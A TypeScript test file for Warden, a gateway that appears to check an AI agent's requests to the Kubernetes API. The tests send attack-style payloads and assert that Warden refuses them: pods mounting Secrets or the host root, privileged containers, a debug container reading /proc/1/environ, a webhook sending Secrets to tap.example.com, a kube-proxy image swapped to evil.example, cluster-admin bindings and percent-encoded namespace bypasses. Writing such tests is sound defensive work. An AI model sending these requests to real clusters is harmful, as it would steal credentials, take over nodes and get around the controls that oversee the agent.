// Attacks on the gateway's Kubernetes path that reach what a Secret or a node holds without reading a Secret:
// workloads that mount Secrets or the node, debug containers, tokens, path variants. The agent holds a valid token
// under the default policy; `staging` is not a production namespace, so plain writes there pass.
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { type KubeAnswer as Answer, type KubeAttack, startKubeAttack } from './testing/kube-attack.ts'

let k: KubeAttack
const admin = (args: string[], stdin?: string) => k.admin(args, stdin)

test.before(async () => {
  k = await startKubeAttack('attack-kube-workloads', { holdSeconds: 0.2 })
  for (const ns of ['staging', 'prod']) {
    await admin(['create', 'namespace', ns])
    // No controller manager runs here: the default ServiceAccount a pod needs is created by hand.
    await admin(['create', 'serviceaccount', 'default', '-n', ns])
  }
  await admin(['create', 'deployment', 'web', '-n', 'staging', '--image=busybox'])
})

test.after(async () => {
  await k?.close()
})

const agent = (path: string, opts: { method?: string; body?: string; type?: string; accept?: string } = {}) =>
  k.agent(path, { method: opts.method, body: opts.body, headers: { ...(opts.type ? { 'content-type': opts.type } : {}), ...(opts.accept ? { accept: opts.accept } : {}) } })

/** Refused by Warden (held past the test's short hold, or denied), naming the rule: never forwarded. */
function refused(a: Answer, rule: string, what: string) {
  assert.is(a.status, 403, `${what}: ${a.status} ${a.body.slice(0, 300)}`)
  assert.match(a.body, 'warden:', `${what}: ${a.body.slice(0, 300)}`)
  assert.match(a.body, rule, `${what}: ${a.body.slice(0, 400)}`)
}

const container = (extra: object = {}) => ({ name: 'c', image: 'busybox', command: ['sh', '-c', 'env; cat /s/*'], ...extra })
const pod = (name: string, spec: object) => JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: 'staging' }, spec })

test('control: an ordinary pod in a non-production namespace passes', async () => {
  const a = await agent('/api/v1/namespaces/staging/pods', { method: 'POST', type: 'application/json', body: pod('plain', { containers: [container()] }) })
  assert.is(a.status, 201, a.body.slice(0, 300))
})

test('a pod that reads a Secret through env, envFrom or a volume is held', async () => {
  const specs: Record<string, object> = {
    env: { containers: [container({ env: [{ name: 'P', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }] })] },
    envFrom: { containers: [container({ envFrom: [{ secretRef: { name: 'db' } }] })] },
    volume: { containers: [container()], volumes: [{ name: 's', secret: { secretName: 'db' } }] },
    projected: { containers: [container()], volumes: [{ name: 's', projected: { sources: [{ secret: { name: 'db' } }] } }] },
    initContainer: { containers: [container()], initContainers: [container({ envFrom: [{ secretRef: { name: 'db' } }] })] },
  }
  for (const [what, spec] of Object.entries(specs)) {
    const a = await agent('/api/v1/namespaces/staging/pods', { method: 'POST', type: 'application/json', body: pod(`p-${what.toLowerCase()}`, spec) })
    refused(a, 'warden.rules.kubernetes.workload_secret', what)
  }
})

test('a pod that reaches the node (privileged, hostPath, host namespaces) is refused', async () => {
  const specs: Record<string, object> = {
    privileged: { containers: [container({ securityContext: { privileged: true } })] },
    hostPath: { containers: [container()], volumes: [{ name: 'root', hostPath: { path: '/' } }] },
    hostPID: { hostPID: true, containers: [container()] },
    hostNetwork: { hostNetwork: true, containers: [container()] },
    SYS_ADMIN: { containers: [container({ securityContext: { capabilities: { add: ['SYS_ADMIN'] } } })] },
  }
  for (const [what, spec] of Object.entries(specs)) {
    const a = await agent('/api/v1/namespaces/staging/pods', { method: 'POST', type: 'application/json', body: pod(`h-${what.toLowerCase()}`, spec) })
    refused(a, 'warden.rules.kubernetes.host_access', what)
  }
})

test('a pod run as another service account (its permissions, outside Warden) is held', async () => {
  const a = await agent('/api/v1/namespaces/staging/pods', { method: 'POST', type: 'application/json', body: pod('sa', { serviceAccountName: 'deployer', containers: [container()] }) })
  refused(a, 'warden.rules.kubernetes.workload_service_account', 'serviceAccountName')
})

test('approving a certificate signing request is refused for an agent', async () => {
  const body = JSON.stringify({ apiVersion: 'certificates.k8s.io/v1', kind: 'CertificateSigningRequest', metadata: { name: 'x' }, status: { conditions: [{ type: 'Approved', status: 'True' }] } })
  refused(await agent('/apis/certificates.k8s.io/v1/certificatesigningrequests/x/approval', { method: 'PUT', type: 'application/json', body }), 'warden.rules.kubernetes.csr_approval', 'csr approval')
})

test('an admission webhook or API service (every write, Secrets in clear, sent to a URL) is refused for an agent', async () => {
  const hook = JSON.stringify({ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'tap' }, webhooks: [{ name: 'tap.example.com', clientConfig: { url: 'https://tap.example.com/' }, rules: [{ operations: ['CREATE', 'UPDATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'] }], sideEffects: 'None', admissionReviewVersions: ['v1'] }] })
  refused(await agent('/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations', { method: 'POST', type: 'application/json', body: hook }), 'warden.rules.kubernetes.interception', 'webhook')
  const svc = JSON.stringify({ apiVersion: 'apiregistration.k8s.io/v1', kind: 'APIService', metadata: { name: 'v1.tap.example.com' }, spec: { group: 'tap.example.com', version: 'v1', groupPriorityMinimum: 1000, versionPriority: 15, service: { name: 'tap', namespace: 'staging' }, insecureSkipTLSVerify: true } })
  refused(await agent('/apis/apiregistration.k8s.io/v1/apiservices', { method: 'POST', type: 'application/json', body: svc }), 'warden.rules.kubernetes.interception', 'apiservice')
})

test('YAML 1.1 booleans (yes, on) the apiserver reads as true are host access too', async () => {
  for (const [flag, word] of [['privileged', 'yes'], ['hostPID', 'on'], ['hostNetwork', 'Y']] as const) {
    const where = flag === 'privileged' ? '    securityContext: {privileged: ' + word + '}\n' : ''
    const top = flag === 'privileged' ? '' : `  ${flag}: ${word}\n`
    const yaml = `apiVersion: v1\nkind: Pod\nmetadata:\n  name: y-${flag.toLowerCase()}\nspec:\n${top}  containers:\n  - name: c\n    image: busybox\n${where}`
    const a = await agent(`/api/v1/namespaces/staging/pods/y-${flag.toLowerCase()}?fieldManager=agent&dryRun=All`, { method: 'PATCH', type: 'application/apply-patch+yaml', body: yaml })
    refused(a, 'warden.rules.kubernetes.host_access', `${flag}: ${word}`)
  }
})

test('a new image for a system workload (kube-system runs with its Secrets and host access) is held', async () => {
  const body = JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'kube-proxy', image: 'evil.example/kube-proxy' }] } } } })
  refused(await agent('/apis/apps/v1/namespaces/kube-system/daemonsets/kube-proxy', { method: 'PATCH', type: 'application/strategic-merge-patch+json', body }), 'warden.rules.kubernetes.write', 'kube-system')
})

test('pod templates inside Deployments, CronJobs and server-side apply YAML are read too', async () => {
  const secretEnv = { containers: [container({ envFrom: [{ secretRef: { name: 'db' } }] })] }
  const dep = JSON.stringify({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'd' }, spec: { selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec: secretEnv } } })
  refused(await agent('/apis/apps/v1/namespaces/staging/deployments', { method: 'POST', type: 'application/json', body: dep }), 'workload_secret', 'deployment')
  const cron = JSON.stringify({ apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'c' }, spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec: { ...secretEnv, restartPolicy: 'Never' } } } } } })
  refused(await agent('/apis/batch/v1/namespaces/staging/cronjobs', { method: 'POST', type: 'application/json', body: cron }), 'workload_secret', 'cronjob')
  const yaml = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: ssa\nspec:\n  containers:\n  - name: c\n    image: busybox\n    volumeMounts: [{name: s, mountPath: /s}]\n  volumes:\n  - name: s\n    secret: {secretName: db}\n'
  refused(await agent('/api/v1/namespaces/staging/pods/ssa?fieldManager=agent', { method: 'PATCH', type: 'application/apply-patch+yaml', body: yaml }), 'workload_secret', 'server-side apply')
})

test('patches that add a Secret volume or privilege to an existing Deployment are read too', async () => {
  const json = JSON.stringify([{ op: 'add', path: '/spec/template/spec/volumes', value: [{ name: 's', secret: { secretName: 'db' } }] }])
  refused(await agent('/apis/apps/v1/namespaces/staging/deployments/web', { method: 'PATCH', type: 'application/json-patch+json', body: json }), 'workload_secret', 'json patch, whole volume')
  const deep = JSON.stringify([{ op: 'add', path: '/spec/template/spec/volumes/0/secret', value: { secretName: 'db' } }])
  refused(await agent('/apis/apps/v1/namespaces/staging/deployments/web', { method: 'PATCH', type: 'application/json-patch+json', body: deep }), 'workload_secret', 'json patch, secret member')
  const priv = JSON.stringify([{ op: 'replace', path: '/spec/template/spec/containers/0/securityContext/privileged', value: true }])
  refused(await agent('/apis/apps/v1/namespaces/staging/deployments/web', { method: 'PATCH', type: 'application/json-patch+json', body: priv }), 'host_access', 'json patch, privileged')
  const smp = JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'busybox', envFrom: [{ secretRef: { name: 'db' } }] }] } } } })
  refused(await agent('/apis/apps/v1/namespaces/staging/deployments/web', { method: 'PATCH', type: 'application/strategic-merge-patch+json', body: smp }), 'workload_secret', 'strategic merge patch')
})

test('a workload write whose body Warden cannot read (protobuf) is refused, not passed unjudged', async () => {
  const a = await agent('/api/v1/namespaces/staging/pods', { method: 'POST', type: 'application/vnd.kubernetes.protobuf', body: 'k8s\x00\n\x09\n\x02v1\x12\x03Pod' })
  refused(a, 'warden.rules.kubernetes.unread_body', 'protobuf pod')
})

test('kubectl debug (an ephemeral container added by PATCH) is held like exec', async () => {
  const body = JSON.stringify({ spec: { ephemeralContainers: [{ name: 'dbg', image: 'busybox', targetContainerName: 'c', command: ['cat', '/proc/1/environ'] }] } })
  const a = await agent('/api/v1/namespaces/staging/pods/plain/ephemeralcontainers', { method: 'PATCH', type: 'application/strategic-merge-patch+json', body })
  refused(a, 'warden.rules.kubernetes.interactive', 'ephemeralcontainers')
  const read = await agent('/api/v1/namespaces/staging/pods/plain/ephemeralcontainers')
  assert.is(read.status, 200, read.body.slice(0, 200))
})

test('a percent-encoded production namespace is the production namespace', async () => {
  const a = await agent('/api/v1/namespaces/%70rod/configmaps', { method: 'POST', type: 'application/json', body: JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x' } }) })
  refused(a, 'warden.rules.kubernetes.write', 'percent-encoded prod')
})

test('a service-account token request is held for an agent, also in a non-production namespace', async () => {
  const a = await agent('/api/v1/namespaces/staging/serviceaccounts/default/token', { method: 'POST', type: 'application/json', body: JSON.stringify({ apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} }) })
  refused(a, 'warden.rules.kubernetes.token', 'token')
})

test('binding cluster-admin is refused for an agent, in any namespace', async () => {
  const rb = JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'x' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'staging' }] })
  refused(await agent('/apis/rbac.authorization.k8s.io/v1/namespaces/staging/rolebindings', { method: 'POST', type: 'application/json', body: rb }), 'warden.rules.kubernetes.rbac', 'rolebinding')
})

test('pod proxy, service proxy and node proxy are never forwarded unjudged', async () => {
  refused(await agent('/api/v1/namespaces/staging/pods/plain/proxy/'), 'interactive', 'pod proxy')
  refused(await agent('/api/v1/namespaces/staging/services/web:80/proxy/x'), 'interactive', 'service proxy')
  refused(await agent('/api/v1/nodes/n1/proxy/pods'), 'node_proxy', 'node proxy')
  refused(await agent('/api/v1/namespaces/staging/pods/plain/exec?command=id&stdout=1', { method: 'GET' }), 'interactive', 'exec by GET')
})

test('literal env values of workloads come back masked, in objects, lists, tables and kubectl\'s last-applied copy', async () => {
  const secret = 'plain-env-secret-7f3a'
  const deployment = {
    apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'envy', namespace: 'staging' },
    spec: {
      selector: { matchLabels: { app: 'envy' } },
      template: { metadata: { labels: { app: 'envy' } }, spec: { containers: [{ name: 'c', image: 'busybox', env: [{ name: 'DB_PASSWORD', value: secret }, { name: 'FROM_REF', valueFrom: { configMapKeyRef: { name: 'settings', key: 'mode' } } }] }] } },
    },
  }
  await admin(['apply', '-f', '-'], JSON.stringify(deployment))
  const reads = {
    get: await agent('/apis/apps/v1/namespaces/staging/deployments/envy'),
    list: await agent('/apis/apps/v1/namespaces/staging/deployments'),
    all: await agent('/apis/apps/v1/deployments'),
    table: await agent('/apis/apps/v1/namespaces/staging/deployments?includeObject=Object', { accept: 'application/json;as=Table;v=v1;g=meta.k8s.io' }),
  }
  for (const [what, a] of Object.entries(reads)) {
    assert.is(a.status, 200, `${what}: ${a.body.slice(0, 200)}`)
    assert.not.ok(a.body.includes(secret), `${what}: the literal env value came back`)
    assert.ok(a.body.includes('DB_PASSWORD') && a.body.includes('settings'), `${what}: names and references stay readable`)
  }
  const object = JSON.parse(reads.get.body)
  assert.is(object.spec.template.spec.containers[0].env[0].value, '[redacted]')
})

test('literal env values stay masked in a workload\'s revision history, other representations and write answers', async () => {
  const secret = 'revision-env-secret-91c2'
  const template = { metadata: { labels: { app: 'hist' } }, spec: { containers: [{ name: 'c', image: 'busybox', env: [{ name: 'API_KEY', value: secret }] }] } }
  // What a StatefulSet or DaemonSet controller records per revision (kubectl rollout history --revision=N reads it).
  const revision = { apiVersion: 'apps/v1', kind: 'ControllerRevision', metadata: { name: 'hist-1', namespace: 'staging' }, revision: 1, data: { spec: { template: { $patch: 'replace', ...template } } } }
  await admin(['apply', '-f', '-'], JSON.stringify(revision))
  const daemonset = { apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'hist', namespace: 'staging' }, spec: { selector: { matchLabels: { app: 'hist' } }, template } }
  await admin(['apply', '-f', '-'], JSON.stringify(daemonset))
  const reads: Record<string, Answer> = {
    'revision': await agent('/apis/apps/v1/namespaces/staging/controllerrevisions/hist-1'),
    'revision list': await agent('/apis/apps/v1/namespaces/staging/controllerrevisions'),
    'revisions, all namespaces': await agent('/apis/apps/v1/controllerrevisions'),
    'yaml': await agent('/apis/apps/v1/namespaces/staging/daemonsets/hist', { accept: 'application/yaml' }),
    'protobuf': await agent('/apis/apps/v1/namespaces/staging/daemonsets/hist', { accept: 'application/vnd.kubernetes.protobuf' }),
    'metadata only': await agent('/apis/apps/v1/namespaces/staging/daemonsets/hist', { accept: 'application/json;as=PartialObjectMetadata;g=meta.k8s.io;v=v1' }),
    'patch answer': await agent('/apis/apps/v1/namespaces/staging/daemonsets/hist', { method: 'PATCH', type: 'application/merge-patch+json', body: JSON.stringify({ metadata: { labels: { touched: 'yes' } } }) }),
  }
  for (const [what, a] of Object.entries(reads)) {
    assert.not.ok(a.body.includes(secret), `${what} (${a.status}): the literal env value came back`)
  }
  assert.is(reads.revision!.status, 200, reads.revision!.body.slice(0, 300))
  assert.is(JSON.parse(reads.revision!.body).data.spec.template.spec.containers[0].env[0].value, '[redacted]')
})

test.run()
